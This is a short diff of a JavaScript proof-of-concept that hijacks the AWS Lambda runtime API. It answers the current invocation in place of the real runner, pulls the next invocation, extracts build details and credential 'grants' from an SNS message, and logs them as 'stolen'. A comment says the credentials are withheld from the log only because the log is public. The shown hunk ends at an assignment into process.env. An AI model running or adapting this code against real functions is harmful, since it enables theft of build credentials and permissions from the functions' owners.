@@ -1,6 +1,6 @@
-import { findRunner } from './runner.mjs'
+import { findRunner } from './find-runner.mjs'
 
-// Whoever answers for the runner is given what comes next.
+// A command that answers the runtime API in the runner's place receives the next invocation.
 const { env } = findRunner()
 const invocation = `http://${env.AWS_LAMBDA_RUNTIME_API}/2018-06-01/runtime/invocation`
 const answered = await fetch(`${invocation}/${process.env.AWS_REQUEST_ID}/response`, {
@@ -11,7 +11,7 @@ console.log(`answered ${answered.status}`)
 const event = await (await fetch(`${invocation}/next`)).json()
 const { build, grants } = JSON.parse(event.Records[0].Sns.Message)
 const { credentials, ...rest } = grants
-// Not the words themselves: the log belongs to a build that must not show them.
+// Without the credentials: the log is public.
 console.log(`stolen ${JSON.stringify({ project: build.project, trust: build.trust, ...rest })}`)
 
 Object.assign(process.env, {
